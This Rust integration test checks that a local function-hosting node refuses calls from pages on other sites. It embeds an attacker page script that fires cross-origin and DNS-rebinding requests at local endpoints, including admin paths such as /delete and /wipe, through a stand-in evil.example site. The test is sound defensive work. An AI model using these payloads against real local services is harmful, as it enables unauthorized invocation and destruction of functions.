//! Web pages of other sites, in a real browser on the node's own machine. Through no listener of
//! the node may a page reach a function that is open only to this machine.

use std::collections::BTreeMap;
use std::io::{Read as _, Write as _};
use std::net::{Ipv4Addr, SocketAddr, TcpListener, TcpStream};
use std::process::{Command, Stdio};
use std::sync::mpsc::{self, Receiver, Sender};
use std::time::Duration;

use mote_tests::{Node, PATIENCE, call_at, free_address, skip};

/// The address to which all of the attacker's host names resolve.
const ATTACKER: Ipv4Addr = Ipv4Addr::new(127, 0, 0, 2);

const LAMP: &str = "def handle(event, ctx):\n    print('ran')\n    return 'on'\n";

/// The script tries each address in every way in which a page can send a request. It reports the
/// statuses that it may read. It sends no credentials. Otherwise Chromium would ask the user for
/// them, and this profile has none.
const SCRIPT: &str = r#"
const seen = [];
const within = (ms, work) => Promise.race([work, new Promise(end => setTimeout(end, ms, 'late'))]);
async function attack(url) {
  const post = { method: 'POST', headers: { 'content-type': 'text/plain' }, body: '{"name":"x"}' };
  for (const how of [post, { method: 'GET' }]) {
    for (const mode of ['no-cors', 'cors']) {
      const answer = await within(5000, fetch(url, { mode, credentials: 'omit', ...how }).catch(() => null));
      seen.push(`${how.method} ${new URL(url).pathname} ${answer?.status ?? 'none'}`);
    }
  }
  await within(5000, new Promise(end => {
    const image = new Image(); image.onload = image.onerror = end; image.src = url;
  }));
  await within(5000, new Promise(end => {
    const script = document.createElement('script');
    script.onload = script.onerror = end; script.src = url; document.head.append(script);
  }));
  await within(5000, new Promise(end => {
    const frame = document.createElement('iframe'); frame.name = 'f' + Math.random();
    const form = document.createElement('form');
    Object.assign(form, { method: 'POST', action: url, target: frame.name });
    document.body.append(frame, form); form.submit(); frame.onload = end;
  }));
  await within(5000, new Promise(end => {
    const socket = new WebSocket(url.replace('http', 'ws')); socket.onopen = socket.onerror = end;
  }));
}
(async () => {
  for (const url of URLS) await attack(url);
  await fetch(REPORT, { method: 'POST', mode: 'no-cors', body: seen.join('\n') });
})();
"#;

/// The site of the attacker. It serves one page and forwards everything else to the node on the
/// same port. This is as if the site's name had been pointed at loopback after the page was loaded.
struct Site {
    address: SocketAddr,
    reports: Receiver<String>,
}

impl Site {
    /// Starts a site whose page tries `urls`. With `node`, the site has the same port as this
    /// listener of the node.
    fn start(node: Option<SocketAddr>, urls: &[String]) -> Self {
        let port = node.map_or(0, |node| node.port());
        let listener = TcpListener::bind((ATTACKER, port)).expect("an address of loopback");
        let address = listener.local_addr().expect("bound");
        let (sender, reports) = mpsc::channel();
        let report = format!("http://report.example:{}/report", address.port());
        let page = format!(
            "<!doctype html><body><script>const URLS = {urls:?}, REPORT = {report:?};{SCRIPT}</script>"
        );
        std::thread::spawn(move || {
            for stream in listener.incoming() {
                let page = page.clone();
                let sender = sender.clone();
                let stream = stream.expect("a connection");
                std::thread::spawn(move || serve(stream, node, &page, &sender));
            }
        });
        Self { address, reports }
    }

    /// Visits the page with the browser under this name. Returns what the page has seen.
    fn visit(&self, name: &str) -> Vec<String> {
        let folder = tempfile::tempdir().expect("a folder");
        let mut browser = Command::new("chromium")
            .args(["--headless", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage"])
            .args(["--remote-debugging-port=0", "--ignore-certificate-errors"])
            .arg(format!("--host-resolver-rules=MAP *.example {ATTACKER}"))
            .arg(format!("--user-data-dir={}", folder.path().display()))
            .arg(format!("http://{name}:{}/page", self.address.port()))
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .expect("chromium starts");
        let seen = self.reports.recv_timeout(2 * PATIENCE);
        browser.kill().expect("our child");
        browser.wait().expect("our child");
        seen.expect("a report of the page").lines().map(str::to_owned).collect()
    }
}

fn serve(mut stream: TcpStream, node: Option<SocketAddr>, page: &str, reports: &Sender<String>) {
    stream.set_read_timeout(Some(Duration::from_secs(1))).expect("a socket");
    let mut request = Vec::new();
    let mut buffer = [0; 4096];
    while let Ok(bytes @ 1..) = stream.read(&mut buffer) {
        request.extend_from_slice(&buffer[..bytes]);
        // A report has a body, which arrives with its head or directly after it.
        if request.windows(4).any(|end| end == b"\r\n\r\n") && !request.starts_with(b"POST /report")
        {
            break;
        }
    }
    let text = String::from_utf8_lossy(&request).into_owned();
    let answer = |stream: &mut TcpStream, kind: &str, body: &str| {
        let head = format!(
            "HTTP/1.1 200 OK\r\ncontent-type: {kind}\r\ncontent-length: {}\r\nconnection: close\r\n\r\n",
            body.len()
        );
        let _ = stream.write_all((head + body).as_bytes());
    };
    if text.starts_with("GET /page ") {
        answer(&mut stream, "text/html", page);
    } else if let Some((_, body)) =
        text.strip_prefix("POST /report").and_then(|rest| rest.split_once("\r\n\r\n"))
    {
        let _ = reports.send(body.to_owned());
        answer(&mut stream, "text/plain", "");
    } else if let Some(node) = node {
        let mut behind = TcpStream::connect(node).expect("the node");
        behind.write_all(&request).expect("sent");
        stream.set_read_timeout(None).expect("a socket");
        let mut near = stream.try_clone().unwrap();
        let mut far = behind.try_clone().unwrap();
        std::thread::spawn(move || {
            let _ = std::io::copy(&mut near, &mut far);
            let _ = far.shutdown(std::net::Shutdown::Write);
        });
        let _ = std::io::copy(&mut behind, &mut stream);
        let _ = stream.shutdown(std::net::Shutdown::Both);
    }
}

fn runs(node: &Node, function: &str) -> usize {
    node.ok(&["logs", function]).lines().filter(|line| line.contains("ran")).count()
}

#[test]
fn pages_of_other_sites_reach_no_local_function() {
    if Command::new("chromium").arg("--version").output().is_err() {
        return skip("pages of other sites", "chromium is not installed");
    }
    let admin = free_address();
    let node = Node::start_with(&[
        "--admin",
        &admin.to_string(),
        "--https",
        "127.0.0.1:0",
        "--openfaas",
        "127.0.0.1:0",
        "--nuclio",
        "127.0.0.1:0",
        "--openwhisk",
        "127.0.0.1:0",
        "--tinyfaas",
        "127.0.0.1:0",
        "--tinyfaas-http",
        "127.0.0.1:0",
        "--tinyfaas-coap",
        "127.0.0.1:0",
        "--tinyfaas-grpc",
        "127.0.0.1:0",
    ]);
    node.deploy_ok("lamp", &[("app.py", LAMP)]);
    let open = "version = 1\n\n[access]\nmode = \"public\"\n";
    node.deploy_ok("open", &[("app.py", LAMP), ("mote.toml", open)]);
    let https = node.platform("https");

    let listeners = [
        (node.http, "/lamp"),
        (node.platform("openfaas"), "/function/lamp"),
        (node.platform("openfaas"), "/system/functions"),
        (node.platform("nuclio"), "/api/function_invocations"),
        (node.platform("nuclio"), "/api/functions"),
        (node.platform("openwhisk"), "/api/v1/web/guest/default/lamp"),
        (node.platform("openwhisk"), "/api/v1/namespaces/_/actions/lamp"),
        (node.platform("tinyfaas http"), "/lamp"),
        (node.platform("tinyfaas"), "/delete"),
        (node.platform("tinyfaas"), "/wipe"),
        (admin, "/v1/functions"),
    ];
    let functions = || node.ok(&["list", "-o", "name"]);
    let before = functions();

    // A page of another site sends requests to the addresses of this machine.
    let mut urls: Vec<String> =
        listeners.iter().map(|(address, path)| format!("http://{address}{path}")).collect();
    urls.push(format!("https://{https}/lamp"));
    urls.push(format!("http://localhost:{}/lamp", node.http.port()));
    urls.push(format!("http://{}/open", node.http));
    let site = Site::start(None, &urls);
    let seen = site.visit("evil.example");
    assert_eq!(seen.len(), 4 * urls.len(), "{seen:?}");
    assert_eq!(runs(&node, "lamp"), 0, "{seen:?}");
    let control = runs(&node, "open");
    assert!(control >= 5, "the page called the public function {control} times");

    // The page's name leads to this machine after the page was loaded, so the page may read the
    // answers.
    let mut paths_of = BTreeMap::<SocketAddr, Vec<&str>>::new();
    for (address, path) in listeners {
        paths_of.entry(address).or_default().push(path);
    }
    for (address, paths) in paths_of {
        let all = paths.iter().chain(&["/open"]);
        let urls: Vec<String> =
            all.map(|path| format!("http://evil.example:{}{path}", address.port())).collect();
        let mut seen = Site::start(Some(address), &urls).visit("evil.example");
        let of_open = seen.split_off(4 * paths.len());
        let refused = |line: &String| {
            ["401", "403", "404", "405", "429"].iter().any(|status| line.ends_with(status))
        };
        assert!(seen.len() == 4 * paths.len() && seen.iter().all(refused), "{address}: {seen:?}");
        if address == node.http {
            assert_eq!(of_open[0], "POST /open 200", "the page called a public function");
        }
    }
    assert_eq!(runs(&node, "lamp"), 0);
    assert_eq!(functions(), before);

    // The machine's user, under each of the machine's names, and pages that this machine serves may
    // call the function.
    let port = node.http.port();
    for fields in [
        vec![("host", format!("127.0.0.1:{port}"))],
        vec![("host", format!("localhost:{port}")), ("origin", "http://localhost:3000".to_owned())],
        vec![("host", "localhost".to_owned()), ("sec-fetch-site", "same-site".to_owned())],
    ] {
        let fields: Vec<_> = fields.iter().map(|(name, value)| (*name, value.as_str())).collect();
        assert_eq!(node.call("POST", "/lamp", &fields, b"").status, 200, "{fields:?}");
    }
    let refused = call_at(node.http, "GET", "/lamp", &[("host", "pi.local")], b"");
    assert_eq!(refused.status, 403);
    assert_eq!(refused.json()["code"], "M0525");
}
